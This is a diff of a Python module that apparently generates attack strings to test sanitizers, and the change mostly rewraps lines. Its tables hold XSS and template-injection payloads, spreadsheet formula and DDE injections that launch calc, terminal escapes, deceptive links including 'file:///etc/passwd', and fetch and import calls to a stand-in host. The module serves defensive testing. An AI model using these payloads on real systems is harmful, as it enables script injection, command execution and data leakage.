@@ -20,11 +20,14 @@ oncanplay onloadstart onauxclick oncontextlost onslotchange onsecuritypolicyviol
 TAGS = """img svg body iframe video audio input details marquee object embed form math style button select a base link meta
 template noscript title textarea xmp plaintext frameset table td isindex keygen dialog portal fencedframe search slot
 custom-tag picture source track area map canvas applet""".split()
-SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java&Tab;script:", "&#106;avascript:", "data:text/html,", "vbscript:",
+SCHEMES = ("javascript:", "JaVaScRiPt:", "java\tscript:", "java&Tab;script:", "&#106;avascript:",
+    "data:text/html,", "vbscript:",
            "\x01javascript:", "javascript&colon;", "blob:", "feed:javascript:", "view-source:javascript:")  # fmt: skip
 BREAKS = ("", '"', "'", "`", ">", '">', "'>", "-->", "]]>", "</p>", "</li></ol>", "</textarea>", "</title>", "</style>",
-          "</script>", "</noscript>", "</template>", "*/", "\\", "\\'", '\\"', "{{", "}}", "\n", "\r\n\r\n", "\u2028")  # fmt: skip
-TEMPLATES = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% if %s %%}", "[[%s]]", "{{{%s}}}", "@(%s)", "{{constructor.constructor('%s')()}}",
+          "</script>", "</noscript>", "</template>", "*/", "\\", "\\'", '\\"', "{{", "}}", "\n", "\r\n\r\n",
+              "\u2028")  # fmt: skip
+TEMPLATES = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% if %s %%}", "[[%s]]", "{{{%s}}}", "@(%s)",
+    "{{constructor.constructor('%s')()}}",
              "{{''.__class__.__mro__[1]}}%s", "{%% raw %%}%s{%% endraw %%}", "<template>%s</template>", "${{%s}}")  # fmt: skip
 MUTATIONS = (
     "<noscript><p title='</noscript><img src=x onerror={}>'>",
@@ -62,9 +65,11 @@ MUTATIONS = (
     "<input autofocus onfocus={}>",
     "<template shadowrootmode=open><img src=x onerror={}></template>",
 )
-FORMULAS = ("=HYPERLINK(\"http:{1}\",{0})", "@SUM(1+1)*cmd|' /C calc'!{0}", "+{0}", "-2+3+cmd|' /C calc'!A{0}", "=IMPORTXML(\"http:{1}\",{0})",
+FORMULAS = ("=HYPERLINK(\"http:{1}\",{0})", "@SUM(1+1)*cmd|' /C calc'!{0}", "+{0}",
+    "-2+3+cmd|' /C calc'!A{0}", "=IMPORTXML(\"http:{1}\",{0})",
             "\t={0}", "\r=1+{0}", "=DDE(\"cmd\";\"/C calc\";\"{0}\")")  # fmt: skip
-TERMINAL = ("\x1b[2J{}", "\x1b]0;title {}\x07", "\x1b]8;;http:" + ELSEWHERE + "\x07{}\x1b]8;;\x07", "\x9b31m{}", "\x08\x08\x08{}", "\x7f{}",
+TERMINAL = ("\x1b[2J{}", "\x1b]0;title {}\x07", "\x1b]8;;http:" + ELSEWHERE + "\x07{}\x1b]8;;\x07",
+    "\x9b31m{}", "\x08\x08\x08{}", "\x7f{}",
             "\x00{}", "\x1bP{}\x1b\\", "\ufeff{}", "\ufffe{}", "\uffff{}")  # fmt: skip
 BIDI = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"
 INVISIBLE = "\u200b\u200c\u200d\u2060\u00ad\u034f\u180e\u115f\u3164\U000e0041\ufe0f"
@@ -90,8 +95,10 @@ SCRIPTS = (
     "꧅",
 )
 MARKS = [chr(code) for code in range(0x300, 0x36F)]
-LINKS = ("https://xn--80ak6aa92e.com", "https://аpple.com", "https://user:pw@{0}", "//{0}", "https://ok.example\u202egpj.exe", "http://[::1]/{0}",
-         "https://ok.example#@{0}", "mailto:a@b.c?body={0}", "tel:+47{0}", "file:///etc/passwd{0}", "https://ok.example\\@{0}")  # fmt: skip
+LINKS = ("https://xn--80ak6aa92e.com", "https://аpple.com", "https://user:pw@{0}", "//{0}",
+    "https://ok.example\u202egpj.exe", "http://[::1]/{0}",
+         "https://ok.example#@{0}", "mailto:a@b.c?body={0}", "tel:+47{0}", "file:///etc/passwd{0}",
+             "https://ok.example\\@{0}")  # fmt: skip
 SMS = (
     "¡£¤§{}¿",
     "é" * 70 + "{}",
@@ -123,7 +130,8 @@ def attack_strings(many: int = MANY) -> list[str]:
 def _call(chance: random.Random) -> str:
     return chance.choice(
         (
-            "__hit(NUMBER)", "alert(NUMBER)", "top.__hit(NUMBER)", "self['__hit'](NUMBER)", "fetch('//elsewhere.example/NUMBER')",
+            "__hit(NUMBER)", "alert(NUMBER)", "top.__hit(NUMBER)", "self['__hit'](NUMBER)",
+                "fetch('//elsewhere.example/NUMBER')",
             "__hit`NUMBER`", "(0,__hit)(NUMBER)", "window.name=__hit(NUMBER)", "import('//elsewhere.example/NUMBER')",
             "confirm(NUMBER)", "new Image().src='//elsewhere.example/NUMBER'", "document.title=__hit(NUMBER)",
         )
@@ -137,12 +145,14 @@ def _tags(chance: random.Random) -> Iterator[str]:
         more = chance.choice(
             ("", " src=x", " open", " autofocus tabindex=1", " style=animation-name:x", " href=javascript:" + call)
         )
-        yield f"{chance.choice(BREAKS)}<{_cased(chance, tag)}{space}{_cased(chance, event)}={quoted}{more}>{chance.choice(SCRIPTS)}"
+        opening = f"<{_cased(chance, tag)}{space}{_cased(chance, event)}={quoted}{more}>"
+        yield chance.choice(BREAKS) + opening + chance.choice(SCRIPTS)
 
 
 def _scripts(chance: random.Random) -> Iterator[str]:
     while True:
-        yield f"{chance.choice(BREAKS)}<{_cased(chance, 'script')}>{_call(chance)}</{_cased(chance, 'script')}{chance.choice(' >/')}>"
+        begins, ends = _cased(chance, "script"), _cased(chance, "script")
+        yield f"{chance.choice(BREAKS)}<{begins}>{_call(chance)}</{ends}{chance.choice(' >/')}>"
 
 
 def _addresses(chance: random.Random) -> Iterator[str]:
